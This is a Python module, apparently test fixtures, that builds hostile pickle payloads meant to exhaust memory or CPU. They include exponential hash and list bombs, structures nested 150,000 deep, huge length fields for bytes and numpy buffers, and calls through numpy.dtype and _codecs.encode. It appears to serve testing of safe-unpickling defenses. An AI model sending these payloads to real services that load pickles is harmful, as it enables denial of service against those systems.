"""Small pickles that ask for endless work or memory, each the sample of a kind."""

import pickle
import struct

DEPTH, DOUBLINGS = 150_000, 40

HASH_BOMB = b")q\x00" + b"".join(b"h%ch%c\x86q%c" % (n, n, n + 1) for n in range(DOUBLINGS))
"""A tuple that refers twice to the one before, forty times: hashing it takes 2^40 steps."""

LIST_BOMB = b"]q\x00" + b"".join(b"0]q%c(h%ch%ce" % (n + 1, n, n) for n in range(DOUBLINGS))
"""The same of lists: printing, copying or comparing it does."""

DEEP_TUPLE = b")" + b"\x85" * DEPTH
DEEP_LIST = b"]" * DEPTH + b"a" * (DEPTH - 1)
BIG_NUMBER = pickle.LONG4 + struct.pack("<i", 4000) + b"\x7f" * 4000

IN_A_DICT = {
    "hash of a key": HASH_BOMB + b"K\x01",
    "deep key": DEEP_TUPLE + b"K\x01",
    "deep value": b"X\x01\x00\x00\x00x" + DEEP_LIST,
    "endless value": b"X\x01\x00\x00\x00x" + LIST_BOMB,
    "big number": b"X\x01\x00\x00\x00x" + BIG_NUMBER,
    "frozen set": b"(" + HASH_BOMB + b"\x91K\x01",
    "dtype of lists": b"X\x01\x00\x00\x00xcnumpy\ndtype\n" + LIST_BOMB + b"\x85R",
    "codec of lists": b"X\x01\x00\x00\x00xc_codecs\nencode\nX\x01\x00\x00\x00x" + LIST_BOMB + b"\x86R",
    "array without end": (
        b"X\x01\x00\x00\x00xcnumpy.core.numeric\n_frombuffer\n(U\x00cnumpy\ndtype\nU\x02i8\x85R"
        b"K\x00\x8a\x08" + struct.pack("<q", 1 << 62) + b"\x86U\x01CtR"
    ),
    "bytes without end": b"X\x01\x00\x00\x00x\x8e" + struct.pack("<Q", 1 << 62),
    "byte array without end": b"X\x01\x00\x00\x00x\x96" + struct.pack("<Q", 1 << 33),
    "memo without end": b"r\xff\xff\xff\x7fX\x01\x00\x00\x00xK\x01",
}
"""Opcodes that put a key and a value upon the stack, to stand within a dict."""

NAMES = {"hash of a key", "deep key", "frozen set"}
"""Those whose harm is done by the key."""


def hostile_pickle(kind: str) -> bytes:
    """A pickle of a dict with the harmful entry."""
    return b"\x80\x04}" + IN_A_DICT[kind] + b"s."
